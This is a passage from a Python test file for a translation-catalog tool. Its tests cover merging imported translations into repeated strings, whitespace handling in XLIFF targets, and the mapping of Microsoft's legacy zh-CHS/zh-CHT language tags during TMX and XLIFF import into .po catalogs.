                       Unit("ok.2", "好的。")], "zh-Hant", "en")
    incoming = Catalog([Unit("", "好的。", "Fine.", State.TRANSLATED),
                        Unit("", "好的。", "Agreed.", State.TRANSLATED)], "zh-Hant", "en")
    report = merge_import(catalog, incoming)
    assert [u.target for u in catalog.units] == ["", "Fine.", "", "Agreed."]
    assert not report.not_found
    # One translation for a repeated sentence still fills every occurrence.
    catalog = Catalog([Unit("ok", "好的。"), Unit("ok.2", "好的。")], "zh-Hant", "en")
    merge_import(catalog, Catalog([Unit("", "好的。", "Fine.", State.TRANSLATED)]))
    assert [u.target for u in catalog.units] == ["Fine.", "Fine."]


def test_pretty_printed_xliff_without_preserve_is_not_the_text() -> None:
    data = ('<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2"><file '
            'original="x" source-language="zh" datatype="plaintext"><body>'
            '<trans-unit id="a"><source>第一章</source><target>Chapter\n        One</target>'
            '</trans-unit><trans-unit id="b" xml:space="preserve"><source>詩</source>'
            '<target>Line one\nline two</target></trans-unit></body></file></xliff>')
    units = read_xliff(data.encode(), "x").catalog.units
    assert [u.target for u in units] == ["Chapter One", "Line one\nline two"]


@pytest.mark.parametrize("tag,catalog_lang", [("ZH-CHT", "zh_TW"), ("zh-CHT", "zh_Hant"),
                                              ("zh-CHS", "zh_CN"), ("zh-chs", "zh_Hans")])
def test_microsoft_legacy_chinese_tags(tmp_path: Path, tag: str, catalog_lang: str) -> None:
    """.NET's culture names zh-CHS and zh-CHT (Visual Studio, resx, older Microsoft and Trados
    memories) name the script, as zh-Hans and zh-Hant do: zh-CHT read as Simplified, so a
    Traditional memory was refused by a zh-TW catalog ('no translation unit has a variant')."""
    tmx = tmp_path / "memory.tmx"
    tmx.write_text('<tmx version="1.4"><header srclang="EN-US" segtype="sentence" o-tmf="x" '
                   'adminlang="en" datatype="plaintext" creationtool="x" creationtoolversion="1"/>'
                   f'<body><tu><tuv xml:lang="EN-US"><seg>Open</seg></tuv><tuv xml:lang="{tag}">'
                   "<seg>開啟</seg></tuv></tu></body></tmx>", encoding="utf-8")
    xlf = tmp_path / "strings.xlf"
    xlf.write_text('<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2"><file '
                   f'original="x" source-language="en-US" target-language="{tag}" datatype='
                   '"plaintext"><body><trans-unit id="open"><source>Open</source><target state='
                   '"translated">開啟</target></trans-unit></body></file></xliff>',
                   encoding="utf-8")
    for path in (tmx, xlf):
        po = tmp_path / f"{catalog_lang}.po"
        po.write_text('msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n'
                      f'"Language: {catalog_lang}\\n"\n\nmsgctxt "open"\nmsgid "Open"\n'
                      'msgstr ""\n', encoding="utf-8")
        result = run_cli("import", str(path), "--into", str(po))
        assert result.returncode == 0, result.stderr
        assert 'msgstr "開啟"' in po.read_text(encoding="utf-8")
    other = "zh_Hans" if "CHT" in tag.upper() else "zh_Hant"  # and not the other script
    po = tmp_path / f"{other}.po"
    po.write_text('msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n'
                  f'"Language: {other}\\n"\n\nmsgctxt "open"\nmsgid "Open"\nmsgstr ""\n',
                  encoding="utf-8")
    assert run_cli("import", str(xlf), "--into", str(po)).returncode == 2
